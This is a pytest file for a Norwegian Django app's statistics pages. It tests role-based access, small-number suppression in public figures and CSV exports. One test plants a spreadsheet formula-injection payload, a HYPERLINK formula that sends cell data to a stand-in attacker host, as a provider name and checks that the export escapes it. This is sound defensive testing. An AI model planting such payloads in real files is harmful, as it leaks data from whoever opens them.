"""The statistics pages: who sees which figures, small numbers hidden in public, CSV files."""

import csv
import io

import pytest

pytestmark = pytest.mark.django_db
YEARS = {"fra": "2022", "til": "2023"}


def csv_of(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def row(rows, label):
    return next(r for r in rows if r and r[0] == label)


def test_an_analyst_sees_exact_figures_for_her_municipality_only(client, world):
    client.force_login(world["analyst"])
    rows = csv_of(client.get("/ansatt/statistikk/csv/", {**YEARS, "tabell": "belegg", "etter": "kommune"}))
    assert rows[1] == ["Kommune", "2022", "2023"]
    assert row(rows, "Bærum") == ["Bærum", "7", "9"]
    assert not any(r and r[0] == "Bergen" for r in rows)


def test_a_provider_named_like_a_formula_is_plain_text_in_the_staff_csv(client, world):
    """A provider registers itself as =HYPERLINK(…); the analyst's spreadsheet must show the name,
    not run it: the cell starts with an apostrophe. The figures stay plain numbers."""
    from veivalg.directory.models import Organization

    formula = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")'
    Organization.objects.filter(name="Verkstedet").update(name=formula)
    client.force_login(world["analyst"])
    rows = csv_of(
        client.get("/ansatt/statistikk/csv/", {**YEARS, "tabell": "kapasitet", "etter": "tilbyder"})
    )
    assert ["'" + formula, "0", "20"] in rows
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_the_dashboard_shows_every_table_with_its_csv_link(client, world):
    client.force_login(world["nav_counsellor"])
    response = client.get("/ansatt/statistikk/", YEARS)
    page = response.content.decode()
    for slug in ("kapasitet", "belegg", "venteliste", "ventetid", "ventetid-type", "overganger", "to"):
        assert f"tabell={slug}" in page
    assert 'aria-hidden="true"' in page and "<svg" in page  # bars and flow drawn, table beside
    assert "Dagtilbud" in page and "Varig tilrettelagt arbeid (VTA)" in page


def test_a_municipality_outside_her_area_is_refused_with_a_message(client, world):
    client.force_login(world["analyst"])
    response = client.get("/ansatt/statistikk/", {**YEARS, "kommune": world["bergen"].pk})
    assert response.status_code == 200
    assert "feiloppsummering" in response.content.decode()
    assert response.context["form"].scope().municipalities == (world["baerum"].pk,)


def test_other_staff_and_the_public_cannot_open_the_staff_dashboard(client, world):
    client.force_login(world["provider_staff"])
    assert client.get("/ansatt/statistikk/").status_code == 404
    assert client.get("/ansatt/statistikk/csv/").status_code == 404
    client.logout()
    assert client.get("/ansatt/statistikk/").status_code == 302


def test_public_figures_hide_counts_under_five_and_a_partner_in_the_same_column(client, world):
    rows = csv_of(
        client.get("/statistikk/csv/", {**YEARS, "tabell": "belegg", "kommune": world["baerum"].pk})
    )
    # 2023: day activity 6, VTA 3 (hidden) → day activity hidden too, so 3 ≠ 9 − 6.
    assert row(rows, "Varig tilrettelagt arbeid (VTA)") == ["Varig tilrettelagt arbeid (VTA)", "0", "under 5"]
    assert row(rows, "Dagtilbud") == ["Dagtilbud", "7", "under 5"]
    assert row(rows, "I alt") == ["I alt", "7", "9"]
    assert "Tall under 5 er skjult" in rows[-1][0]


def test_public_school_leavers_hide_the_small_side_and_its_partner(client, world):
    rows = csv_of(client.get("/statistikk/csv/", {**YEARS, "tabell": "to"}))
    assert row(rows, "2023") == ["2023", "6", "under 5", "", "under 5", "5"]


def test_public_page_renders_with_filters_and_definitions(client, world):
    response = client.get("/statistikk/", {**YEARS, "fylke": world["baerum"].county_id})
    page = response.content.decode()
    assert response.status_code == 200
    assert "under 5" in page
    assert "Slik regner vi" in page
    assert 'name="etter"' in page and 'value="tilbyder"' not in page


def test_bad_years_get_a_message_and_the_default_figures(client, world):
    response = client.get("/statistikk/", {"fra": "2023", "til": "2020"})
    assert "«Til og med år» kan ikke være før «Fra år»." in response.content.decode()
    assert len(response.context["report"].years) == 10


def test_an_unknown_table_is_not_found(client, world):
    assert client.get("/statistikk/csv/", {"tabell": "personer"}).status_code == 404
